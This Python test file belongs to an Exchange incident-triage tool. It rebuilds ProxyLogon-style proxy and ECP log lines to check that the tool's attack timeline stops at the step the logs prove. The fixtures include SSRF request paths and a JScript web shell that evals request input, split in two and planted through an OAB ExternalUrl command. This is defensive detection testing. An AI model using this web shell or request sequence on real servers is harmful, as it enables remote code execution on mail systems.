"""The published rows of one real attack (values only, from Norwegian incident notes of March 2021, put back into full
log lines of ours): the story goes to the step that the rows prove, and no further."""

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from postvakt.model.report import HostRow
from tests.commands import cases

BEGUN = datetime(2021, 3, 3, 6, 47, 11, tzinfo=UTC)
ATTACKER = "198.51.100.21"
BACK_END = "ServerInfo~a]@ex01.corp.example:444"
CANARY = "msExchEcpCanary=kPXk1Vd0b0S9mQ"
DDI = f"{BACK_END}/ecp/DDI/DDIService.svc"
# In two pieces: together they are what a virus scanner takes files away for.
SHELL = (
    '<script language=""JScript"" runat=""server"">function Page_Load(){ev'
    'al(Request[""x""],""unsafe"");}</script>'
)


ROWS = (
    (f"{BACK_END}/autodiscover/autodiscover.xml?#", 200, "probe"),
    (f"{BACK_END}/mapi/emsmdb/?#", 200, "ssrf"),
    (f"{BACK_END}/ecp/proxyLogon.ecp?#", 241, "session"),
    (f"{DDI}/GetObject?{CANARY}&schema=OABVirtualDirectory#", 200, "session"),
    (f"{DDI}/SetObject?{CANARY}&schema=OABVirtualDirectory#", 200, "session"),
    (f"{DDI}/SetObject?{CANARY}&schema=ResetOABVirtualDirectory#", 200, "file"),
    (f"{DDI}/SetObject?{CANARY}&schema=OABVirtualDirectory#", 200, "file"),
)
"""AnchorMailbox and HttpStatus in the order of the log, and the step that the rows up to there prove."""

FIELDS = (
    "DateTime", "RequestId", "MajorVersion", "MinorVersion", "BuildVersion", "RevisionVersion", "ClientRequestId",
    "Protocol", "UrlHost", "UrlStem", "ProtocolAction", "AuthenticationType", "IsAuthenticated", "AuthenticatedUser",
    "Organization", "AnchorMailbox", "UserAgent", "ClientIpAddress", "ServerHostName", "HttpStatus", "BackEndStatus",
    "ErrorCode", "Method", "ProxyAction", "TargetServer", "TargetServerVersion", "RoutingType", "RoutingHint",
)  # fmt: skip
STEPS = ("probe", "ssrf", "session", "address", "file")


def proxy_log(rows: int) -> bytes:
    """The first rows as a log of the front end, header and all."""
    out = io.StringIO(newline="")
    write = csv.writer(out, lineterminator="\r\n")
    write.writerow(FIELDS)
    for place, (mailbox, status, _) in enumerate(ROWS[:rows]):
        told = {
            "DateTime": f"{BEGUN + timedelta(seconds=22 * place):%Y-%m-%dT%H:%M:%S.000Z}",
            "RequestId": f"8f2c1d7a-0f7e-4c1c-9d5e-2b7f7f1e9a{place:02}",
            "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2106", "RevisionVersion": "2",
            "Protocol": "Ecp", "UrlHost": "mail.corp.example", "UrlStem": "/ecp/y.js", "IsAuthenticated": "false",
            "AnchorMailbox": mailbox, "ClientIpAddress": ATTACKER, "ServerHostName": "EX01", "HttpStatus": str(status),
            "UserAgent": "ExchangeServicesClient/0.0.0.0" if place < 3 else "python-requests/2.25.1",
            "Method": "POST", "ProxyAction": "Proxy", "TargetServer": "ex01.corp.example",
            "TargetServerVersion": "15.01.2106.002", "RoutingType": "IntraForest",
            "RoutingHint": "X-BEResource-Cookie",
        }  # fmt: skip
        write.writerow([told.get(name, "") for name in FIELDS])
    return out.getvalue().encode()


def ecp_log() -> bytes:
    """The lines of the control panel beside them."""
    at = BEGUN + timedelta(seconds=100)
    command = (
        f"S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/{SHELL}''.Identity=''7ad1cb0f-2c1c-4f7e''"
    )
    return (
        "#Software: Microsoft Exchange Server\r\n#Version: 15.00.0000.000\r\n#Log-type: ECP Server Log\r\n"
        f"#Date: {at:%Y-%m-%dT%H:%M:%S.000Z}\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
        f'{at:%Y-%m-%dT%H:%M:%S.000Z},EX01,ECP.Request,"S:TIME=13;{command};S:REQID=;S:BLD=15.1.2106.2"\r\n'
    ).encode()


def triaged(tmp_path: Path, files: dict[str, bytes]) -> HostRow:
    logs = tmp_path / "in/C/Program Files/Microsoft/Exchange Server/V15/Logging"
    for name, content in files.items():
        (logs / name).parent.mkdir(parents=True, exist_ok=True)
        (logs / name).write_bytes(content)
    [host] = cases.triaged(tmp_path / "case", tmp_path / "in").hosts
    return host


def furthest(host: HostRow) -> str:
    [actor] = [actor for actor in host.story.actors if actor.addresses]
    assert actor.addresses == (ATTACKER,)
    return max((step.step for step in actor.steps if step.findings), key=STEPS.index)


PROXY = "HttpProxy/Ecp/HttpProxy_2021030306-1.LOG"


@pytest.mark.parametrize("rows", range(1, len(ROWS) + 1))
def test_the_story_goes_as_far_as_its_rows(tmp_path: Path, rows: int) -> None:
    host = triaged(tmp_path, {PROXY: proxy_log(rows)})
    assert furthest(host) == ROWS[rows - 1][2]
    expected = {
        "probe": "probed",
        "ssrf": "access-gained",
        "session": "access-gained",
        "file": "file-written",
    }
    assert host.verdict.grade == expected[ROWS[rows - 1][2]]


def test_the_control_panel_s_line_joins_by_time_where_the_proxy_lacks_the_row(tmp_path: Path) -> None:
    """In the real case the first SetObject stood in one log only; the story needs both, not each."""
    host = triaged(tmp_path, {PROXY: proxy_log(4), "ECP/Server/ECPServer20210303-1.LOG": ecp_log()})
    assert furthest(host) == "address"
    [step] = [s for actor in host.story.actors for s in actor.steps if s.step == "address"]
    assert (step.logs, step.joined) == (("ecp_server",), "the same minutes")


def test_what_is_not_seen_in_between_is_told(tmp_path: Path) -> None:
    [actor] = triaged(tmp_path, {PROXY: proxy_log(6)}).story.actors
    assert {step.step: bool(step.missing) for step in actor.steps} == {
        "probe": False,
        "ssrf": False,
        "session": False,
        "address": True,
        "file": False,
    }
